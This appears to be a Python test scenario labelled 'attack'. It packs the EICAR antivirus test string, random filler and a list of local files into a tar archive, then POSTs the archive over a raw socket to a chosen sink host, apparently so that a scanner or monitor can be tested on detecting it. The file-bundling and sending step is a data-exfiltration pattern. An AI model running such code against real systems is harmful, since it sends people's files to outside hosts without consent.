# SPDX-License-Identifier: GPL-3.0-or-later
"""An archive with one thing in it that a scanner must find, and with the files: sent as a sample."""
import io
import random
import socket
import tarfile

KIND = "attack"
SAMPLE = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def product(world):
    rng, archive = random.Random(world["seed"]), io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        for name, content in (("sample", SAMPLE), ("filler", rng.randbytes(rng.randint(1, 5) << 20))):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
        for path in world["files"]:
            tar.add(path)
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        sock.sendall(b"POST /samples HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % archive.tell() + archive.getvalue())
